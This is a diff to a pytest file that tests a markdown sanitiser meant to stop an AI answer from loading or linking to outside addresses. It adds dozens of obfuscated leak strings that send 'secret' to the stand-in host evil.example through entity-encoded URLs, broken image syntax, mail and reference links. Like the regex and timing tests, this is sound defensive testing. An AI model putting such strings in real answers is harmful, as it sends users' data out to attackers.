@@ -1,6 +1,7 @@
 """Nothing in an answer loads or leads out of it, in any part of it that is shown."""
 
 import re
+import time
 
 import pytest
 
@@ -37,6 +38,48 @@ LEAKS = [
     f"!\u200b[a]\u200b({EVIL})",
     f"![a]\u2060({EVIL})",
     f"[x](https://ok.example/page) ![a]({EVIL})",
+    "https&#58;//evil.example/x?d=secret",
+    "https&colon;//evil.example/x?d=secret",
+    "&#x68;ttps:&sol;&sol;evil.example/x?d=secret",
+    "https\\://evil.example/x?d=secret",
+    "https:\\/\\/evil.example/x?d=secret",
+    "www&#46;evil.example/x?d=secret",
+    "www\\.evil.example/x?d=secret",
+    "&#119;ww&period;evil.example/x?d=secret",
+    "https://ok.example/page'SECRET",
+    'https://ok.example/page"SECRET',
+    "https://ok.example/page)SECRET",
+    "https://ok.example/page“SECRET",
+    "https://ok.example/page?d=SECRET",
+    "https://ok.example/page/SECRET",
+    "https://ok.example/page”www.evil.example/x?d=secret",
+    "_https://evil.example/x?d=secret_",
+    "1https://evil.example/x?d=secret",
+    "secret@evil.example",
+    "secret&#64;evil.example",
+    "secret\\@evil\\.example",
+    "secret@evil&period;example",
+    "mailto:secret@evil.example",
+    "xmpp:secret@evil.example/chat",
+    "<secret@evil.example>",
+    "<1@evil.example>",
+    "<#$@evil.example>",
+    "<mailto:secret@evil.example>",
+    "<x+y://evil.example/secret>",
+    "[a](//evil.example/x?d=secret)",
+    "[a](ftp://evil.example/x?d=secret)",
+    "[a](mailto:secret@evil.example)",
+    "- [1]: //evil.example/secret",
+    "1. > [ref]: /evil.example/secret\n\n[ref]",
+    "[re\nf]: //evil.example/secret\n\n[re f]",
+    "&#&#53;8;//evil.example https&#&#53;8;//evil.example/x?d=secret",
+    "https&#5![](x)8;//evil.example/x?d=secret",
+    "ht![](x)tps://evil.example/x?d=secret",
+    "w![](x)ww.evil.example/x?d=secret",
+    "sec[ret](x)@evil.example",
+    "https&ZeroWidthSpace;&colon;//evil.example/x?d=secret",
+    "[<img src=//evil.example/secret>](https://ok.example/page)",
+    '[a](https://ok.example/page "t](//evil.example/x?d=secret)")',
 ]
 
 
@@ -45,11 +88,14 @@ def loads_or_leads(markdown: str) -> list[str]:
     from markdown_it import MarkdownIt
 
     found: list[str] = []
+    bare = r"(?<![a-zA-Z])https?://[^\s<]+|(?:(?<![^\W_])|(?<=\d))www\.[^\s<]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+"
     for block in MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown):
         for token in [block, *(block.children or [])]:
             found += [str(token.attrs[name]) for name in ("src", "href") if name in token.attrs]
             found += [token.content] if token.type in ("html_block", "html_inline") else []
-            found += re.findall(r"(?:https?://|www\.)\S+", token.content) if token.type == "text" else []
+        # Neighbouring pieces of text are one text to a reader that looks for bare addresses, escapes undone.
+        pieces = "".join(child.content if "text" in child.type else "\n" for child in block.children or [])
+        found += [address.rstrip("!?.,:;*_~'\")") for address in re.findall(bare, pieces)]
     return found
 
 
@@ -64,7 +110,7 @@ def test_nothing_loads_or_leads_out_in_any_beginning_of_an_answer(leak: str) -> 
     for end in range(len(answer) + 1):
         for complete in (False, True):
             shown = safe_markdown(answer[:end], sources, complete=complete)
-            assert set(loads_or_leads(shown)) <= {"https://ok.example", "https://ok.example/page"}
+            assert set(loads_or_leads(shown)) <= {"https://ok.example/page"}
     final = safe_markdown(answer, sources)
     assert "Duty is 19 percent [1]." in final
     assert final.endswith("That is all.")
@@ -105,3 +151,78 @@ def test_links_of_the_documents_stay() -> None:
 )
 def test_ordinary_markdown_is_left_alone(plain: str) -> None:
     assert safe_markdown(plain) == plain
+
+
+@pytest.mark.parametrize(
+    ("written", "sources", "safe"),
+    [
+        ("Ask help@ok.example.", "Mail help@ok.example!", "Ask help@ok.example."),
+        ("Ask help@ok.example.", "Mail ahelp@ok.example!", "Ask ."),
+        ("Ask lp@ok.example.", "Mail help@ok.example!", "Ask ."),
+        ("5 kg @ 3 EUR, user@host", "", "5 kg @ 3 EUR, user@host"),
+        ("**https://ok.example/a**", "https://ok.example/a", "**https://ok.example/a**"),
+        ("“https://ok.example/a”.", "https://ok.example/a", "“<https://ok.example/a>”."),
+        ("(https://ok.example/a).", "https://ok.example/a", "(https://ok.example/a)."),
+        ("https://ok.example/a_(b)", "https://ok.example/a_(b)", "https://ok.example/a_(b)"),
+        ("|https://ok.example/a|5 EUR|", "https://ok.example/a", "|<https://ok.example/a>|5 EUR|"),
+        ("https://ok.example", "see https://ok.example/", "https://ok.example"),
+        ("https://ok.example/", "https://ok.example/form", ""),
+        (r"[form](https\://ok.example/form)", "https://ok.example/form", "[form](https://ok.example/form)"),
+        (
+            "1\\. no list, \\* no bullet, &lt;b&gt; &amp; a\\\\:b",
+            "",
+            "1\\. no list, \\* no bullet, &lt;b&gt; &amp; a\\\\:b",
+        ),
+    ],
+)
+def test_an_address_stays_where_it_stands_whole_in_the_sources(written: str, sources: str, safe: str) -> None:
+    assert safe_markdown(written, sources) == safe
+    assert safe_markdown(safe, sources) == safe
+
+
+def test_what_is_nested_without_end_is_shown_as_plain_words() -> None:
+    leak = "x"
+    for _ in range(30):
+        leak = f"![{leak}]({EVIL})"
+    assert loads_or_leads(safe_markdown(leak)) == []
+
+
+RUNS = [
+    *(
+        "a",
+        "[",
+        "]",
+        "(",
+        ")",
+        "<",
+        "!",
+        "\\",
+        "\\[",
+        "[a](",
+        "![",
+        "&",
+        "&#",
+        "@",
+        "a@",
+        "a.",
+        ".",
+        "/",
+        "www.",
+        "`",
+        " ",
+    ),
+    *("http://", "[a]:", "a@b.", "é", "[a][", "ht![](x)", "://", ":", "<http://a", "[a](  ", "a@b.c ", "\n", "\n>"),
+]
+
+
+@pytest.mark.parametrize("run", RUNS)
+@pytest.mark.parametrize("complete", [True, False])
+def test_the_time_grows_no_faster_than_the_text(run: str, complete: bool) -> None:
+    def seconds(length: int) -> float:
+        text = f"[a]({run * (length // len(run))}é"
+        begun = time.process_time()
+        safe_markdown(text, "https://ok.example/page", complete=complete)
+        return time.process_time() - begun
+
+    short, long = min(seconds(4_000) for _ in range(3)), min(seconds(32_000) for _ in range(3))
+    assert long < 30 * (short + 0.002)
